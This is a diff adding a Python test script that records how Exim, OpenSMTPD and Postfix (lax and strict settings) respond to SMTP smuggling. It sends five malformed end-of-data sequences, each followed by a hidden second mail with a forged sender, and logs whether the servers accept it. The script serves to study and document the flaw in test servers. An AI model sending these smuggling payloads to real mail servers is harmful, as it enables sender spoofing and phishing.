@@ -1,0 +1,96 @@
+# SPDX-License-Identifier: Apache-2.0
+"""A second mail hidden in the first one's text behind something that is almost an end of data.
+
+Whether it is one is the server's business: the client notes the replies it got, and they are the truth.
+"""
+
+import socket
+import time
+
+import world
+from clients import Wire
+from recording import story
+from servers import Exim, OpenSmtpd, Postfix
+from stories.dialogue import CLIENT, CLIENT_NAME, note
+
+FORMS = [b"\n.\n", b"\n.\r\n", b"\r\n.\n", b"\r.\r", b"\r\n.\r"]
+TAKEN = [250, 250, 250, 354, 250]       # the first mail, MAIL, RCPT, DATA, the second mail
+SMUGGLED = "smuggled@example.org"
+QUIET = 1.0
+
+
+def send(form, mail):
+    """One connection; returns the codes of all replies behind 354."""
+    def talk():
+        wire = Wire(CLIENT)
+        wire.reply(220)
+        wire.say("EHLO client.example.net", 250)
+        wire.say(f"MAIL FROM:<{mail.mail_from}>", 250)
+        wire.say("RCPT TO:<user@example.jp>", 250)
+        wire.say("DATA", 354)
+        wire.send(mail.raw.removesuffix(b"\r\n"), form, f"MAIL FROM:<{SMUGGLED}>",
+                  "RCPT TO:<alice@example.jp>", "DATA", f"From: {SMUGGLED}", "Subject: Smuggled", "",
+                  "This text came in another mail's text.", ".")
+        codes = replies(wire)
+        wire.send("QUIT")
+        replies(wire)
+        wire.close()
+        return codes
+    codes = world.call("out", talk)
+    time.sleep(0.3)
+    return codes
+
+
+def replies(wire):
+    wire.socket.settimeout(QUIET)
+    codes = []
+    try:
+        while True:
+            code = wire.reply()
+            if not code:
+                break
+            codes.append(code)
+    except (socket.timeout, ConnectionError):
+        pass
+    wire.replies = wire.socket.makefile("rb")   # a file object is unusable after a time-out
+    return codes
+
+
+def try_all(r, server):
+    mails = [note(r, number) for number in range(1, len(FORMS) + 1)]
+    with r.dns(), server, r.tap():
+        answered = [send(form, mail) for form, mail in zip(FORMS, mails)]
+    for form, mail, codes in zip(FORMS, mails, answered):
+        mail.raw = None
+        session = r.truth.session(CLIENT, helo=CLIENT_NAME, replies=codes)
+        taken = codes == TAKEN
+        outcome = "accepted" if codes and codes[0] == 250 else "refused" if codes else "unfinished"
+        session.facts["outcome"] = {"accepted": "mail"}.get(outcome, outcome)
+        session.mail(mail, outcome, smuggling={"form": form.hex(),
+                                               "verdict": "accepted" if taken else "attempted"})
+        if taken:
+            mail.mail_from, mail.rcpt_to, mail.facts = SMUGGLED, ["alice@example.jp"], {
+                "subject": "Smuggled", "from": SMUGGLED}
+            session.mail(mail)
+
+
+@story("smuggling-exim", "2025-06-13 03:00:00")
+def smuggling_exim(r):
+    try_all(r, Exim(r.roots["exim"]))
+
+
+@story("smuggling-opensmtpd", "2025-06-13 03:10:00")
+def smuggling_opensmtpd(r):
+    try_all(r, OpenSmtpd(r.roots["opensmtpd"]))
+
+
+@story("smuggling-postfix-old", "2025-06-13 03:20:00")
+def smuggling_postfix_old(r):
+    """As every Postfix did before December 2023."""
+    try_all(r, Postfix(r.roots["postfix"], {"smtpd_forbid_bare_newline": "no"}))
+
+
+@story("smuggling-postfix-strict", "2025-06-13 03:30:00")
+def smuggling_postfix_strict(r):
+    strict = {"smtpd_forbid_bare_newline": "yes", "smtpd_forbid_bare_newline_exclusions": ""}
+    try_all(r, Postfix(r.roots["postfix"], strict))
